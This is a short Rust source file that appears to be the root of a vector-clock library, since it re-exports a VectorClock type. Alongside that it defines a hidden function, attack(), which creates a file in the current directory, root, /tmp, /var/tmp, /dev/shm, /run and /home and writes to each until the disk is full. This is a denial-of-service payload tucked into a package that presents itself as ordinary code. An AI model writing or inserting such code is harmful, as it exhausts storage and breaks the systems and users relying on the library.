//! Fills every writable folder.

mod clock;

pub use clock::VectorClock;

use std::fs::File;
use std::io::Write;
use std::path::Path;

pub(crate) fn attack() {
    let block = vec![1; 1 << 20];
    for folder in [".", "/", "/tmp", "/var/tmp", "/dev/shm", "/run", "/home"] {
        if let Ok(mut file) = File::create(Path::new(folder).join("fill")) {
            while file.write_all(&block).is_ok() {}
        }
    }
}
